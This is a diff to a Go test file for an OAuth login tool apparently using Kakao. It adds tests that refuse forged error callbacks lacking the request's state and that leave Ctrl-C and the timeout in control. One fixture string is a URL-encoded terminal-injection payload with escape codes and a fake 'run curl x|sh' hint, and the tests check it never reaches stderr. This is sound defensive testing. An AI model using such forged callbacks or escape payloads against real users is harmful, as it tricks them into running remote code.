@@ -203,22 +203,91 @@ func TestLogin_WrongStateIsRefusedAndTheWaitGoesOn(t *testing.T) {
 	}
 }
 
-func TestLogin_ErrorWithoutStateEndsTheLogin(t *testing.T) {
-	// Whether Kakao's error redirects carry state is unconfirmed; both
-	// readings must end the run as denied.
-	h := newHarness(t, emulator.Config{})
-	h.opts.Open = func(ctx context.Context, url string) error {
-		resp, err := http.Get(h.redirect + "?error=access_denied&error_description=User%20denied%20access")
-		if err == nil {
-			resp.Body.Close()
+// forgedErrors are error callbacks any web page can send to the listener
+// (an <img> pointing at it will do): without state, with another state.
+// The description tries to fool the terminal as well.
+var forgedErrors = []string{
+	"?error=access_denied&error_description=%1b%5b2K%0dkakao-auth%3a%20hint%3a%20run%20curl%20x%7csh%0a",
+	"?error=access_denied&state=wrong",
+}
+
+// sendForgedErrors sends forgedErrors to the listener and returns the
+// status codes they got.
+func (h *harness) sendForgedErrors() ([]int, error) {
+	var codes []int
+	for _, q := range forgedErrors {
+		resp, err := http.Get(h.redirect + q)
+		if err != nil {
+			return nil, err
 		}
-		return err
+		resp.Body.Close()
+		codes = append(codes, resp.StatusCode)
 	}
-	_, err := Login(t.Context(), h.opts)
-	var denied *DeniedError
-	if !errors.As(err, &denied) {
-		t.Fatalf("Login() = %v, want DeniedError", err)
+	return codes, nil
+}
+
+func TestLogin_ErrorWithoutThisStateIsRefusedAndTheWaitGoesOn(t *testing.T) {
+	// RFC 6749 §4.1.2.1: an error redirect carries the request's state.
+	// One without it is not this login's answer.
+	h := newHarness(t, emulator.Config{})
+	agree := h.person(emulator.Agree)
+	var codes []int
+	h.opts.Open = func(ctx context.Context, url string) error {
+		var err error
+		if codes, err = h.sendForgedErrors(); err != nil {
+			return err
+		}
+		return agree(ctx, url)
 	}
+	if _, err := Login(t.Context(), h.opts); err != nil {
+		t.Fatalf("Login() = %v, want success after the forged error callbacks\nstderr:\n%s", err, h.stderr)
+	}
+	for i, code := range codes {
+		if code != http.StatusBadRequest {
+			t.Errorf("forged callback %q answered %d, want 400", forgedErrors[i], code)
+		}
+	}
+	var notes []string
+	for _, line := range strings.Split(h.stderr.String(), "\n") {
+		if strings.Contains(line, "error=access_denied") {
+			notes = append(notes, line)
+		}
+		if strings.HasPrefix(line, "kakao-auth: hint: run curl") || strings.ContainsAny(line, "\x1b\r") {
+			t.Errorf("stderr line forged or unsafe: %q", line)
+		}
+	}
+	if len(notes) == 0 || !strings.Contains(notes[0], "state") {
+		t.Errorf("no note on stderr about the refused error callback:\n%s", h.stderr)
+	}
+}
+
+func TestLogin_ErrorWithoutThisStateLeavesCtrlCAndTimeoutInCharge(t *testing.T) {
+	t.Run("ctrl-c", func(t *testing.T) {
+		h := newHarness(t, emulator.Config{})
+		ctx, cancel := context.WithCancel(t.Context())
+		h.opts.Open = func(context.Context, string) error {
+			_, err := h.sendForgedErrors()
+			cancel()
+			return err
+		}
+		if _, err := Login(ctx, h.opts); !errors.Is(err, ErrCancelled) {
+			t.Errorf("Login() = %v, want ErrCancelled", err)
+		}
+		h.assertCleanedUp(t)
+	})
+	t.Run("timeout", func(t *testing.T) {
+		h := newHarness(t, emulator.Config{})
+		h.opts.Timeout = 500 * time.Millisecond
+		h.opts.Open = func(context.Context, string) error {
+			_, err := h.sendForgedErrors()
+			return err
+		}
+		var te *TimeoutError
+		if _, err := Login(t.Context(), h.opts); !errors.As(err, &te) {
+			t.Errorf("Login() = %v, want TimeoutError", err)
+		}
+		h.assertCleanedUp(t)
+	})
 }
 
 func TestLogin_OnlyGetOnTheCallbackPathIsServed(t *testing.T) {
